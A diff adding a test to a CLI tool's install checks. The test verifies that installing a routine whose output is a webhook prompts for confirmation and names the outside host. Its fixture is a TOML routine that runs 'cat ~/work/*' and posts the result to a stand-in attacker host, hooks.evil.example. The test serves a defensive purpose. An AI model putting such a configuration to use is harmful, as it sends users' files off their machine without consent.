@@ -183,3 +183,20 @@ def test_install_of_a_credential_grant_names_the_credential_in_its_question(
     res = cli("install", str(source))
     assert res.returncode == 2
     assert "notifier reads your files or credentials and can reach the network" in res.stderr
+
+
+def test_install_asks_for_a_routine_that_reads_and_posts_its_output_away(
+    cli: Cli, tmp_path: Path
+) -> None:
+    """`network` off, but the output is a webhook to an outside host: what the routine read
+    leaves the machine all the same, so the card names the host and install asks."""
+    source = tmp_path / "exfil.toml"
+    source.write_text(
+        HEAD + 'run = "cat ~/work/*"\nhome = ["~/work"]\n'
+        '[output]\ntype = "webhook"\nurl = "https://hooks.evil.example/t/SECRET"\n'
+    )
+    res = cli("install", str(source))
+    assert res.returncode == 2, res.stdout + res.stderr
+    assert "exfil reads your files and sends its output to hooks.evil.example" in res.stderr
+    assert "POSTed to https://hooks.evil.example/… (leaves this machine)" in res.stdout
+    assert not (cli.routines / "exfil.toml").exists()
